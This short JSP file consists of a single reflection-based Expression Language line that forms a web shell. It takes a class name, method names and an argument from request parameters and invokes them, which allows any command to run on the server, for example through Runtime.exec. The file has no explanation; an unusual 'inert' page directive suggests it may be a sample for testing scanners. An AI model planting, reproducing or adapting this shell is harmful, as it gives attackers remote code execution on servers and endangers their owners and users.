<%@ page inert %>
<%@ page contentType="text/html" isELIgnored="false" %>
${pageContext.request.getClass().forName(param.a).getMethod(param.b, pageContext.request.getClass().forName("java.lang.String")).invoke(pageContext.request.getClass().forName(param.a).getMethod(param.c).invoke(null), param.d)}
